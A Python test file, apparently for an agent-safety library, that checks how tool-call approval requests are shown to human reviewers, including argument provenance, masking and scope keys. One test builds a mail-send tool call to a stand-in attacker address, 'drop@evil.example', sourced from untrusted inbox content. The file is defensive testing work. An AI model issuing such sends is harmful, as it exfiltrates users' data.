"""How a request reads to a human."""

from __future__ import annotations

from stockade.approvals import render_request, scope_key
from stockade.approvals.render import describe_origin
from stockade.model import ToolCall

SPAN = {
    "start": 0,
    "end": 5,
    "counts": True,
    "piece": 2,
    "tool": "inbox",
    "action": "read",
    "user": False,
    "labels": [{"source": "mail:x", "integrity": "untrusted", "confidentiality": "internal"}],
}


def test_masked_values_are_not_marked() -> None:
    call = ToolCall("mail", "send", {"to": "drop@evil.example"}, "s", principal="bot")
    text = render_request(
        call, "flow:r", "why", {"to": "<EMAIL_1>"}, {"to": {"spans": [SPAN], "masked": True}}
    )
    assert "(session s, principal bot)" in text
    assert "<EMAIL_1>" in text and "drop" not in text
    assert "^" not in text
    assert "! chars 0-5 from untrusted, internal: result #2 of inbox.read (mail:x)" in text


def test_colour_long_values_parts_and_unindexed() -> None:
    long = "x" * 500
    call = ToolCall("t", "a", {"v": "Drop here", "long": long}, "s")
    prov = {
        "v": {"spans": [SPAN, dict(SPAN, counts=False, start=5, end=9)]},
        "v#host": {"spans": [SPAN], "unindexed": [{"source": "web", "integrity": "untrusted"}]},
    }
    text = render_request(call, "r", "why", {"v": "Drop here", "long": long}, prov, color=True)
    assert "\x1b[1;31mdrop \x1b[0mhere" in text
    assert "…" in text and len(max(text.splitlines(), key=len)) < 520
    assert "v#host  (value of several arguments or a part)" in text
    assert "may come from content past the index bound (web, untrusted)" in text


def test_origins() -> None:
    assert describe_origin({"user": True}) == "the user's own words"
    trusted = dict(
        SPAN, labels=[{"source": "db", "integrity": "trusted", "confidentiality": "secret"}]
    )
    assert describe_origin(trusted).startswith("trusted, secret: result #2")


def test_scope_key_depends_on_session_tool_and_arguments() -> None:
    a = ToolCall("pay", "pay", {"iban": "X", "amount": 1}, "s")
    assert scope_key(a) == scope_key(
        ToolCall("pay", "pay", {"amount": 1, "iban": "X"}, "s", "other-id")
    )
    assert scope_key(a) != scope_key(a.with_args({"iban": "X", "amount": 2}))
    assert scope_key(a) != scope_key(ToolCall("pay", "pay", a.args, "s2"))
    assert "X" not in scope_key(a)
